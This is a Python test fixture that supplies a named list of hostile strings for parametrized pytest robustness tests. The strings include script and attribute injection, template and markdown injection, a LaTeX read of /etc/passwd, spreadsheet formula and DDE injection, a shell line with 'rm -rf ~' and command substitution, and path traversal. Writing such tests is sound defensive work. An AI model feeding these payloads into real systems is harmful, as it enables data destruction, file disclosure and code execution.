"""Texts that break what is not written for them, by name: `@pytest.mark.parametrize("text", hostile.params())`.

Every text of the toolkit that comes from a person, a file or a browser may be one of these.
"""

import pytest

__all__ = ["LONG", "STRINGS", "params"]

LONG = 100_000  # characters

STRINGS: dict[str, str] = {
    # markup and scripts
    "script": "<script>document.body.dataset.hacked = 1</script>",
    "closing script": '</script><img src=x onerror="document.body.dataset.hacked=1">',
    "attribute": "\" onmouseover='document.body.dataset.hacked=1' x=\"",
    "entities": "&lt;b&gt; &amp;amp; &#0; &nosuch; &",
    "style": "</style><style>* { display: none }",
    "template": "${alert(1)} {{7*7}} {% raw %} <%= 1 %>",
    "markdown": "[a](javascript:alert(1)) ![](x) | a | b |\n|---|---|\n`x` **b** # c",
    # LaTeX and matplotlib's mathtext
    "mathtext cut": r"$\frac{",
    "mathtext unknown": r"$\nosuch{a}$",
    "dollars": "$$ $a $b$ $",
    "escaped dollar": r"\$ \\$ \\\$",
    "latex": r"\input{/etc/passwd} \end{document} 100 % & # _ ^ ~ { }",
    # spreadsheets, shells, formats, queries, paths
    "formula": '=HYPERLINK("http://example.org?"&A1,"click")',
    "formula by plus": "+1+cmd|' /C calc'!A0",
    "csv": 'a,"b""c;\t\'d',
    "shell": "; rm -rf ~ $(id) `id` | cat && true > /dev/null",
    "brace format": "{} {0} {a.__class__.__mro__} {{ }",
    "path": "../../../etc/passwd",
    "json": '{"a": [1, null}], "__proto__": {"x": 1}}',
    "prototype": "__proto__",
    "ansi": "\x1b[31mred\x1b[2J\x1b]0;title\x07",
    "c1 control": "\x9b2J\x85\x90",
    "nul": "a\0b",
    "all controls": "".join(map(chr, [*range(32), *range(127, 160)])),
    "line ends": "a\r\nb\n\nc\u2028d\u2029e\x0bf\x0cg",
    "white space": " \u00a0\u2003\u3000\u205f ",
    "empty": "",
    "bidirectional override": "\u202egnp.exe\u202c \u2066a\u2069 \u061c",
    "right to left": "שלום عربي",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg",
    # code points at the edges
    "lone high surrogate": "a\ud800b",
    "surrogates the wrong way": "\udc00\ud800",
    "not characters": "\ufffe\uffff\U0010ffff\ue000",
    "combining tower": "Z" + "\u0301\u0322\u0489\u035c" * 50,
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈👍🏽🇬🇧",
    "other scripts": "獅子 사자 สิงโต सिंह 𝔏𝔦𝔬𝔫 𓃭",
    "turkish": "İıßǆﬃ",  # other lengths in upper and lower case
    # length
    "long word": "x" * LONG,
    "long text": "a lion " * (LONG // 7),
    "long mathtext": "$x_" * (LONG // 3),
    "long tower": "e" + "\u0301" * LONG,
}


def params() -> list[object]:
    return [pytest.param(text, id=name.replace(" ", "-")) for name, text in STRINGS.items()]
